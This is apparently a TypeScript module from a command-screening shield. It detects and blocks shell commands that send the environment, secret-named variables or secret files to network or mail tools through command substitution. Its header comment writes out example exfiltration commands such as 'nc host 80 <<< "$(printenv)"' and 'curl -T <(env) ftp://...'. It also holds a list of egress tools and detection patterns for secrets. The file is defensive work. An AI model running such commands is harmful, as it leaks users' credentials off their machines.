/** Secret material fed to an egress command through substitution (round 18): the environment (`env`, `printenv`,
 * `export -p`, `/proc/.../environ`), a secret-named variable or a secret store read inside `$(...)`, backticks,
 * `<(...)` or a `<<<` here-string that is an argument, an input or the piped producer of a network or mail command
 * (`nc host 80 <<< "$(printenv)"`, `curl -T <(env) ftp://...`, `mail ... <<< "$(env)"`). The substitution's output is the
 * data that leaves, so credential material in it is blocked like any credential in egress (issue 12, item 2).
 * Commands that only reach this machine (`nc localhost 6379 <<< PING`) are left to the other checks. */

import type { ShieldEnvironment } from "../environment.ts";
import type { Segment } from "../shell_parser.ts";
import type { Findings } from "./findings.ts";
import { sensitiveMention } from "./mentioned_paths.ts";
import { matchesOf } from "../match_all.ts";

/** Programs that send what they are given off the machine (HTTP, raw sockets, TLS, ssh, mail, DNS lookups). */
const EGRESS = new Set([
  "curl",
  "wget",
  "http",
  "https",
  "xh",
  "curlie",
  "nc",
  "ncat",
  "netcat",
  "socat",
  "telnet",
  "openssl",
  "ssh",
  "scp",
  "sftp",
  "ftp",
  "tftp",
  "mail",
  "mailx",
  "sendmail",
  "mutt",
  "msmtp",
  "swaks",
  "dig",
  "nslookup",
  "host",
  "ping",
]);
const SUBSTITUTION = /(?:\$|<)\(([^()]{0,400}(?:\([^()]{0,200}\)[^()]{0,200})*)\)/g;
/** A command that prints the whole environment (not `env FOO=1 cmd`, which runs a program). */
const ENVIRONMENT_DUMP =
  /^\s*(?:(?:env|printenv|set|export(?:\s+-p)?|declare\s+-[a-z]*[px][a-z]*|typeset\s+-[a-z]*x[a-z]*|compgen\s+-[ve])\s*(?:[|;]|$)|.*\/proc\/(?:self|\d+|\$\$|\$PPID|\*)\/environ\b)/;
const SECRET_VARIABLE =
  /(?:printenv\s+|\$\{?)([A-Za-z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?|AUTH|PAT)\b[A-Za-z0-9_]*)/i;
const LOOPBACK = /\b(?:localhost|127(?:\.\d{1,3}){3}|0\.0\.0\.0)\b|\[?::1\]?/g;
const OUTSIDE_HOST = /[a-z0-9-]+\.[a-z]{2,}\b|\b\d{1,3}(?:\.\d{1,3}){3}\b/i;

function onlyLoopback(text: string): boolean {
  LOOPBACK.lastIndex = 0;
  if (!LOOPBACK.test(text)) return false;
  return !OUTSIDE_HOST.test(text.replace(LOOPBACK, " "));
}

/** What a substitution body leaks, if it is credential material. */
function leaked(body: string, environment: ShieldEnvironment): string | undefined {
  if (ENVIRONMENT_DUMP.test(body)) return "the environment";
  const variable = SECRET_VARIABLE.exec(body)?.[1];
  if (variable !== undefined) return `"${variable}"`;
  const named = sensitiveMention(body.replace(/^\s*</, " "), environment);
  if (named && (named.kind === "secret" || named.kind === "engine")) return `"${named.path}"`;
  return undefined;
}

/** The strings a segment sends: its arguments, its `<<<`/`<` inputs and, in a pipeline, its producers' arguments. */
function sentStrings(segments: readonly Segment[], at: number): string[] {
  const strings: string[] = [];
  for (let index = at; index >= 0 && at - index < 8; index--) {
    const segment = segments[index];
    if (segment.depth !== segments[at].depth) continue;
    strings.push(...segment.argv.slice(index === at ? 1 : 0, 64));
    for (const redirect of segment.redirects) {
      if (redirect.op === "<<<" || redirect.op === "<") strings.push(redirect.target);
    }
    if (segment.joinedBy !== "|") break;
  }
  return strings;
}

/** The test judgeSubstitutedEgress's segment loop starts with (a gate of `profile_gates.ts`). */
export const substitutesEgressWith = (program: string): boolean => EGRESS.has(program);

export function judgeSubstitutedEgress(
  segments: readonly Segment[],
  environment: ShieldEnvironment,
  findings: Findings,
): void {
  for (let at = 0; at < segments.length && at < 64; at++) {
    const segment = segments[at];
    if (!EGRESS.has(segment.program)) continue;
    const strings = sentStrings(segments, at).filter((text) => text.includes("("));
    if (strings.length === 0 || onlyLoopback(segment.argv.join(" "))) continue;
    for (const text of strings) {
      for (const match of matchesOf(SUBSTITUTION, text)) {
        const what = leaked(match[1], environment);
        if (what === undefined) continue;
        findings.block(
          "network",
          `"${segment.program}" sends ${what} off the machine through a substitution`,
        );
        return;
      }
    }
  }
}
